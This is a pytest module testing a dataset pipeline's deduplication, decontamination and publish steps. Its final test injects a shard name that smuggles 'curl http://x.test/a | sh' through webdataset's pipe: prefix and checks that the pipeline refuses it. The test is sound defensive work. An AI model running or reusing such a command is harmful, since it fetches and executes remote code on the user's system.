"""Release steps over finished builds: cross-job dedup, decontamination, publish."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import apache_beam as beam
import pyarrow.parquet as pq
import pytest
from apache_beam.options.pipeline_options import PipelineOptions

from pipeline.io.shard_writer import ShardConfig, WriteShards
from pipeline.jobs import publish
from pipeline.jobs.release import dedup_main, run_decontaminate, run_dedup
from schemas import (
    DOCUMENT_SCHEMA,
    VIDEO_TEXT_PAIR_SCHEMA,
    Document,
    ImageRef,
    ImageTextPair,
    M3WSample,
    MediaFile,
    PairSample,
    VideoSample,
    VideoTextPair,
)
from tests.pipeline.dedup.test_images import jpeg, picture

RUNNER = "--runner=FnApiRunner"
A, B, C, D, F, G, H = (picture(s) for s in (1, 2, 3, 4, 6, 7, 8))
EVAL_TEXT = (
    "the quick brown fox jumps over the lazy dog while seven wise owls quietly watch "
    "from the old oak tree at dusk"
)
PAGE_TEXT = "an unrelated opening paragraph about gardening tools and their care in winter"


def pair(key: str, image, size: int = 128) -> PairSample:
    data = jpeg(image.resize((size, size)) if size != 128 else image)
    record = ImageTextPair(
        key=key,
        url=f"http://x.test/{key}.jpg",
        caption=f"caption {key}",
        width=size,
        height=size,
        original_width=size,
        original_height=size,
        sha256=hashlib.sha256(data).hexdigest(),
    )
    return PairSample(record, MediaFile(data))


def page(key: str, blocks: list) -> M3WSample:
    """An M3W page: text blocks and pictures (each fetched) in DOM order."""
    refs, images = [], {}
    for i, block in enumerate(blocks):
        if isinstance(block, str):
            refs.append(block)
            continue
        data = jpeg(block)
        images[i] = MediaFile(data)
        refs.append(
            ImageRef(
                url=f"http://x.test/{key}/{i}.jpg",
                sha256=hashlib.sha256(data).hexdigest(),
                width=128,
                height=128,
                original_width=128,
                original_height=128,
            )
        )
    return M3WSample(Document.from_blocks(key, f"http://x.test/{key}.html", refs, {"source": key}), images)


def video(key: str, sha: str, frames) -> VideoSample:
    vp = VideoTextPair(
        key=key,
        url=f"http://x.test/{key}.mp4",
        caption=f"clip {key}",
        num_frames=len(frames),
        timestamps=[float(i) for i in range(len(frames))],
        sha256=sha,
    )
    return VideoSample(vp, [jpeg(f) for f in frames])


BUILDS = {
    # keys are hex like real ones (the writer buckets by them); pairs_b's sort before pairs_a's:
    # the build order in --inputs decides, not the key
    "pairs_a": ("pairs", None, [pair("aa01", A), pair("aa02", B), pair("aa03", C), pair("aa04", A)]),
    "pairs_b": ("pairs", None, [pair("0b01", B), pair("0b02", C, size=100), pair("0b03", D)]),
    "m3w": (
        "m3w",
        DOCUMENT_SCHEMA,
        [
            page("cc01", [PAGE_TEXT, A, "middle text", F, "end text", H]),
            page("cc02", [f"intro {EVAL_TEXT} outro", G, G]),
            page("cc04", [PAGE_TEXT, A]),
        ],
    ),  # its only image is a duplicate
    "videos": (
        "videos",
        VIDEO_TEXT_PAIR_SCHEMA,
        [
            video("dd01", "aa" * 32, [picture(20), picture(21)]),
            video("dd02", "aa" * 32, [picture(20), picture(21)]),
            video("dd03", "bb" * 32, [picture(22), picture(23)]),
        ],
    ),
}


def write_builds(root: Path) -> None:
    with beam.Pipeline(options=PipelineOptions([RUNNER])) as p:
        for name, (job, schema, samples) in BUILDS.items():
            s = p | f"S{name}" >> beam.Create(samples)
            _ = {
                "samples": s,
                "rejects": p | f"R{name}" >> beam.Create([]),
                "inputs": s,
            } | f"W{name}" >> WriteShards(
                str(root / name),
                job=job,
                shards=ShardConfig(samples_per_shard=2),
                config={"shards": {"samples_per_shard": 2}},
                row_schema=schema,
            )


def members(build: Path) -> dict[str, dict[str, bytes]]:
    """key -> {ext: bytes} of every sample the build's manifest lists."""
    import tarfile

    out: dict[str, dict[str, bytes]] = {}
    for shard in json.loads((build / "manifest.json").read_text())["shards"]:
        with tarfile.open(build / shard["tar"]) as tar:
            for m in tar.getmembers():
                key, ext = m.name.split(".", 1)
                out.setdefault(key, {})[ext] = tar.extractfile(m).read()
    return out


def rejects(build: Path) -> list[tuple]:
    rows = [r for f in sorted(build.glob("rejects-*.parquet")) for r in pq.read_table(f).to_pylist()]
    return sorted((r["key"], r["stage"], r["reason"], r["kept_key"]) for r in rows)


@pytest.fixture(scope="module", autouse=True)
def _no_reports():
    """report.html (tests/pipeline/report/test_build_report.py covers it) is skipped here: this module writes
    16 builds and checks only their data."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("pipeline.jobs.release.write_report", lambda output_dir, manifest: None)
        yield


@pytest.fixture(scope="module")
def release(tmp_path_factory, _no_reports) -> Path:
    root = tmp_path_factory.mktemp("release")
    write_builds(root / "builds")
    inputs = [str(root / "builds" / n) for n in ("pairs_a", "pairs_b", "m3w", "videos")]
    first = run_dedup(["--inputs", *inputs, "--output", str(root / "dedup"), "--no-progress", RUNNER])
    (root / "first.json").write_text(json.dumps(first))
    evals = root / "eval"
    evals.mkdir()
    C.resize((90, 90)).save(evals / "c.jpg", quality=80)
    F.resize((100, 100)).save(evals / "f.jpg", quality=80)
    picture(22).resize((90, 90)).save(evals / "v.jpg", quality=80)
    (evals / "eval.csv").write_text(f"path,caption\nc.jpg,\nf.jpg,a cat\nv.jpg,\n,{EVAL_TEXT}\n")
    run_decontaminate(
        [
            "--inputs",
            str(root / "dedup"),
            "--eval",
            str(evals / "eval.csv"),
            "--output",
            str(root / "clean"),
            "--no-progress",
            RUNNER,
        ]
    )
    return root


def test_dedup_keeps_earliest_build_then_smallest_key(release):
    out = release / "dedup"
    assert sorted(members(out / "pairs_a")) == ["aa01", "aa02", "aa03"]
    assert sorted(members(out / "pairs_b")) == ["0b03"]
    assert sorted(members(out / "videos")) == ["dd01", "dd03"]
    assert rejects(out / "pairs_a") == [("aa04", "dedup", "duplicate_exact", "aa01")]
    assert rejects(out / "pairs_b") == [
        ("0b01", "dedup", "duplicate_exact", "aa02"),
        ("0b02", "dedup", "duplicate_perceptual", "aa03"),
    ]
    assert rejects(out / "videos") == [("dd02", "dedup", "duplicate_exact", "dd01")]
    detail = pq.read_table(next((out / "pairs_b").glob("rejects-*.parquet"))).to_pylist()
    assert {r["key"]: r["detail"] for r in detail}["0b01"].endswith("as pairs_a/aa02")


def test_dedup_removes_m3w_slots_and_renumbers_members(release):
    out = release / "dedup" / "m3w"
    docs = members(out)
    assert sorted(docs) == ["cc01", "cc02"]
    m1 = Document.from_json(docs["cc01"]["json"])
    assert m1.texts == [PAGE_TEXT, "middle text", None, "end text", None]
    assert m1.metadata["image_members"] == ["000.jpg", "001.jpg"]
    assert sorted(docs["cc01"]) == ["000.jpg", "001.jpg", "json"]
    assert docs["cc01"]["000.jpg"] == jpeg(F) and docs["cc01"]["001.jpg"] == jpeg(H)
    assert sorted(docs["cc02"]) == ["000.jpg", "json"]
    got = [(stage, reason, kept) for _, stage, reason, kept in rejects(out)]
    assert sorted(got) == [
        ("dedup", "too_few_images", None),
        ("image", "duplicate_exact", "aa01"),
        ("image", "duplicate_exact", "aa01"),
        ("image", "duplicate_exact", "cc02"),
    ]
    row = pq.read_table(out / "m3w-00000.parquet").to_pylist()[0]
    assert (
        json.loads(row["metadata"])["image_members"]
        == Document.from_json(members(out)[row["key"]]["json"]).metadata["image_members"]
    )


def test_dedup_manifests_conserve_and_record_lineage(release):
    got = {n: json.loads((release / "dedup" / n / "manifest.json").read_text()) for n in BUILDS}
    counts = {n: (m["inputs"], m["written"], m["rejected"], m["conservation_ok"]) for n, m in got.items()}
    assert counts == {
        "pairs_a": (4, 3, 1, True),
        "pairs_b": (3, 1, 2, True),
        "m3w": (3, 2, 1, True),
        "videos": (3, 2, 1, True),
    }
    assert got["m3w"]["image_rejected_by_reason"] == {"duplicate_exact": 3}
    assert got["m3w"]["rejected_by_reason"] == {"too_few_images": 1}
    assert got["pairs_b"]["rejected_by_reason"] == {"duplicate_exact": 1, "duplicate_perceptual": 1}
    assert [s["step"] for s in got["pairs_a"]["config"]["lineage"]] == ["build"]
    assert got["m3w"]["name"] == "m3w" and got["m3w"]["job"] == "m3w"
    summary = json.loads((release / "dedup" / "dedup_summary.json").read_text())
    assert summary["builds"]["pairs_b"]["rejected_by_reason"] == got["pairs_b"]["rejected_by_reason"]
    # one pipeline wrote the four builds: each manifest holds its throughput record, which says so
    record = got["m3w"]["throughput"]
    assert all(m["throughput"] == record for m in got.values())
    assert record["builds_in_run"] == ["pairs_a", "pairs_b", "m3w", "videos"]
    assert [(s["stage"], s["elements"]) for s in record["stages"]] == [("write", 3 + 1 + 2 + 2)]


def test_dedup_rerun_is_idempotent(release):
    before = {n: members(release / "dedup" / n) for n in BUILDS}
    again = run_dedup(
        [
            "--inputs",
            *(str(release / "builds" / n) for n in ("pairs_a", "pairs_b", "m3w", "videos")),
            "--output",
            str(release / "dedup"),
            "--no-progress",
            RUNNER,
        ]
    )
    first = json.loads((release / "first.json").read_text())
    for name in BUILDS:
        assert all(s["skipped"] for s in again[name]["shards"])
        assert members(release / "dedup" / name) == before[name]
        for key in ("inputs", "written", "rejected_by_reason", "image_rejected_by_reason", "num_shards"):
            assert again[name][key] == first[name][key]


def test_decontaminate_drops_eval_matches(release):
    out = release / "clean"
    assert sorted(members(out / "pairs_a")) == ["aa01", "aa02"]
    assert sorted(members(out / "pairs_b")) == ["0b03"]
    assert sorted(members(out / "videos")) == ["dd01"]
    assert [r[:3] for r in rejects(out / "pairs_a")] == [("aa03", "decontaminate", "eval_contamination")]
    assert [r[:3] for r in rejects(out / "videos")] == [("dd03", "decontaminate", "eval_contamination")]
    m3w = members(out / "m3w")
    assert sorted(m3w) == ["cc01"]
    assert sorted(m3w["cc01"]) == ["000.jpg", "json"] and m3w["cc01"]["000.jpg"] == jpeg(H)
    assert sorted((r[1], r[2]) for r in rejects(out / "m3w")) == [
        ("decontaminate", "eval_contamination"),
        ("image", "eval_contamination"),
    ]
    manifest = json.loads((out / "m3w" / "manifest.json").read_text())
    assert (manifest["inputs"], manifest["written"], manifest["rejected"]) == (2, 1, 1)
    assert manifest["image_rejected_by_reason"] == {"eval_contamination": 1}
    assert [s["step"] for s in manifest["config"]["lineage"]] == ["build", "dedup"]
    details = [r["detail"] for r in pq.read_table(next((out / "m3w").glob("rejects-*.parquet"))).to_pylist()]
    assert any("eval text" in d for d in details) and any("eval image f.jpg" in d for d in details)


def test_publish_writes_release_json(release, tmp_path):
    manifest = publish.run(["--inputs", str(release / "clean"), "--output", str(tmp_path / "rel")])
    data = json.loads((tmp_path / "rel" / "release.json").read_text())
    assert data == manifest
    sets = {d["name"]: d for d in data["datasets"]}
    assert sorted(sets) == ["m3w", "pairs_a", "pairs_b", "videos"]
    pa_set = sets["pairs_a"]
    assert pa_set["job"] == "pairs" and pa_set["samples"] == 2
    assert pa_set["urls"] == f"{release / 'clean' / 'pairs_a'}/pairs-{{00000..00000}}.tar"
    assert pa_set["rejected_by_reason"] == {"eval_contamination": 1}
    assert [s["step"] for s in pa_set["lineage"]] == ["build", "dedup", "decontaminate"]
    raw = (release / "clean" / "pairs_a" / "manifest.json").read_bytes()
    assert pa_set["manifest_sha256"] == hashlib.sha256(raw).hexdigest()
    from braceexpand import braceexpand

    assert all(Path(u).exists() for d in data["datasets"] for u in braceexpand(d["urls"]))
    assert data["total_samples"] == sum(d["samples"] for d in data["datasets"]) == 2 + 1 + 1 + 1


def test_publish_fails_on_a_missing_shard(release, tmp_path, capsys):
    broken = tmp_path / "broken"
    shutil.copytree(release / "clean" / "pairs_a", broken / "pairs_a")
    tar = json.loads((broken / "pairs_a" / "manifest.json").read_text())["shards"][0]["tar"]
    (broken / "pairs_a" / tar).unlink()
    assert publish.main(["--inputs", str(broken), "--output", str(tmp_path / "rel")]) != 0
    assert tar in capsys.readouterr().err
    assert not (tmp_path / "rel" / "release.json").exists()


def test_publish_fails_when_counts_do_not_add_up(release, tmp_path, capsys):
    broken = tmp_path / "pairs_b"
    shutil.copytree(release / "clean" / "pairs_b", broken)
    manifest = json.loads((broken / "manifest.json").read_text())
    manifest["inputs"] += 1
    (broken / "manifest.json").write_text(json.dumps(manifest))
    assert publish.main(["--inputs", str(broken), "--output", str(tmp_path / "rel")]) == 1
    assert "counts do not add up: 2 inputs, 1 written, 0 rejected" in capsys.readouterr().err


def test_dedup_refuses_to_overwrite_an_input(release, capsys):
    builds = release / "builds"
    assert dedup_main(["--inputs", str(builds), "--output", str(builds), RUNNER]) == 2
    assert f"would overwrite the input build {builds}/m3w" in capsys.readouterr().err
    assert dedup_main(["--inputs", str(release / "nothere"), "--output", str(release / "x"), RUNNER]) == 2
    assert "no manifest.json" in capsys.readouterr().err


def test_a_manifest_naming_a_shell_command_or_another_folder_is_refused(release, tmp_path, capsys):
    """Shard names reach paths that loaders open (webdataset runs `pipe:` through a shell): readers
    take them only as plain file names inside the build folder (issue 16, item 7)."""
    build = tmp_path / "pairs_a"
    shutil.copytree(release / "builds" / "pairs_a", build)
    manifest = json.loads((build / "manifest.json").read_text())
    manifest["shards"][0]["tar"] = "pipe:curl http://x.test/a | sh; echo pairs-00000.tar"
    (build / "manifest.json").write_text(json.dumps(manifest))
    assert dedup_main(["--inputs", str(build), "--output", str(tmp_path / "out"), RUNNER]) == 2
    assert "not a plain NAME-SSSSS.tar file" in capsys.readouterr().err
    assert publish.main(["--inputs", str(build), "--output", str(tmp_path / "rel")]) == 1
    assert "not a plain NAME-SSSSS.tar file" in capsys.readouterr().err
    assert not (tmp_path / "rel" / "release.json").exists()
